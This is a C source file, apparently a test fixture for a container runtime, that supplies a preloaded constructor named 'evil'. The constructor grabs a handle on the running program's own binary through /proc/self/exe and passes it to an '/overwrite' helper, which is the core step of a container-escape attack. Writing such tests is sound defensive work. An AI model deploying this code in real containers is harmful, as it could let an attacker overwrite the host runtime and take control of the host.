/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * For G01-overwrite.bats: the container's /etc/ld.so.preload has it in each program that is started there. In one that came
 * from outside it hands the program's own file to /overwrite.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void)
{
	struct stat st;
	char number[16];
	int fd = open("/proc/self/exe", O_PATH);

	if (fd < 0 || fstat(fd, &st) < 0)
		return;
	if (fork() == 0 && setsid() > 0 && fork() == 0) {
		snprintf(number, sizeof(number), "%d", fd);
		(void)dup2(open("/overwrite.log", O_WRONLY | O_CREAT | O_APPEND, 0644), STDOUT_FILENO);
		execl("/overwrite", "overwrite", number, (char *)NULL);
	}
	_exit(0);
}
